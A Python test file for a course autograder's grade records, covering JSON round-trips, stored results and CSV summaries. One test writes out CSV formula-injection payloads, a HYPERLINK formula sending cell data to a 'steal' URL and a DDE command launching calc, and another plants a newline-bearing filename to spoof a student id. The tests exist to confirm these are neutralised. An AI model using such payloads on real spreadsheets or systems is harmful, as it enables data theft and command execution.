"""GradeRecord: the one record every reader uses, and its JSON form."""

from __future__ import annotations

import json

from grader.core.course import load_course
from grader.core.results import SubmissionResult, score_function
from grader.core.results import TestOutcome as Outcome
from grader.engine.record import FORMAT, GradeRecord
from grader.engine.store import ResultStore
from tests.helpers import ROOT

COURSE = load_course(ROOT, check_files=False)


def a_record() -> GradeRecord:
    functions = {
        "gae_advantages": score_function(
            COURSE, "gae_advantages", [Outcome("a", True, 1.0, ""), Outcome("b", False, 2.0, "why")], None
        ),
        "stable_softmax": score_function(COURSE, "stable_softmax", [], "not defined"),
    }
    result = SubmissionResult(submission="ignored", functions=functions, elapsed=1.23456)
    return GradeRecord(
        "alice",
        "alice/ps4b",
        result,
        course=COURSE.id,
        submission_hash="s" * 64,
        course_hash="c" * 64,
        grader="tcp://10.0.0.1:1234",
        sandbox="bubblewrap sandbox",
        limits=[{"function": "gae_advantages", "kind": "time limit", "detail": "x"}],
    )


def test_a_record_survives_its_json_form_and_the_store(tmp_path):
    record = a_record()
    data = record.to_json()
    assert data["format"] == FORMAT and data["submission"] == data["result"]["submission"] == "alice/ps4b"
    assert data["assignments"] == {
        "ps4b": {"score": record.result.functions["gae_advantages"].score, "max": 5.0, "functions": ["gae_advantages"]},
        "ps4a": {"score": 0.0, "max": COURSE.exercise("stable_softmax").points, "functions": ["stable_softmax"]},
    }
    again = GradeRecord.from_json(json.loads(json.dumps(data)))
    assert again.to_json() == data
    assert again.result.functions["gae_advantages"].assignment == "ps4b"
    store = ResultStore(tmp_path)
    store.save(record)
    assert store.load("alice").to_json() == data
    assert store.load("alice").is_current("s" * 64, "c" * 64)
    assert not store.load("alice").is_current("s" * 64, "d" * 64)


def test_records_of_another_format_or_without_a_fingerprint_are_never_current(tmp_path):
    data = a_record().to_json()
    store = ResultStore(tmp_path)
    (tmp_path / "results").mkdir()
    (tmp_path / "results" / "old.json").write_text(json.dumps(dict(data, format=1, student="old")))
    (tmp_path / "results" / "torn.json").write_text(json.dumps(data)[:100])
    assert store.load("old") is None and store.load("torn") is None
    unrun = GradeRecord("bob", "bob", a_record().result)  # nothing was run: no submission fingerprint
    assert not unrun.is_current("", "")


def test_summary_csv_cells_are_never_formulas(tmp_path):
    # Review attack rogue_loopback_worker (ROGUE_CSV): a member's record set grader and graded_at to
    # =HYPERLINK(...) and @SUM(...), written verbatim into every row of summary.csv.
    import csv
    import dataclasses

    record = dataclasses.replace(
        a_record(), grader='=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"x")', graded_at="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    store = ResultStore(tmp_path)
    rows = list(csv.DictReader(store.write_summary(COURSE, [record]).open(encoding="utf-8")))
    assert rows[0]["graded_by"] == "'" + record.grader and rows[0]["graded_at"] == "'" + record.graded_at
    # numbers stay numbers, to the course's precision (issue 27: no float noise a person reads)
    assert rows[0]["student"] == "alice" and rows[0]["total"] == f"{round(record.total, 2):g}"
    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row.values())


def test_a_student_id_never_ends_in_a_newline(tmp_path):
    # Review attack newline_student_id: SAFE_ID ended in "$", which also matches before a final newline, so a
    # file "bob\n.py" beside bob.py was graded as a student of its own, shown as "bob" in the report.
    from grader.classgrade.run import discover_submissions
    from grader.engine.store import SAFE_ID
    from grader.lms import name_id
    from grader.notebooks.extract import CELL_ID, CHECKSUM, GRADE_ID

    assert SAFE_ID.match("bob") and not SAFE_ID.match("bob\n")
    # The same "$" let nbgrader metadata end in a newline: a grade id goes into nbgrader's log unescaped.
    for pattern, name in ((GRADE_ID, "double"), (CELL_ID, "cell-1"), (CHECKSUM, "abc123")):
        assert pattern.match(name) and not pattern.match(name + "\n"), pattern
    (tmp_path / "bob.py").write_text("x = 1\n")
    (tmp_path / "bob\n.py").write_text("x = 1\n")
    skipped: dict = {}
    # "bob\n" is a name of its own: a student under an id made of it (grader.lms.name_id), never bob.
    found = discover_submissions(tmp_path, skipped)
    assert sorted(found) == ["bob", name_id("bob\n")] and name_id("bob\n") != "bob" and not skipped
    assert found["bob"].name == "bob.py" and all(SAFE_ID.match(s) for s in found)
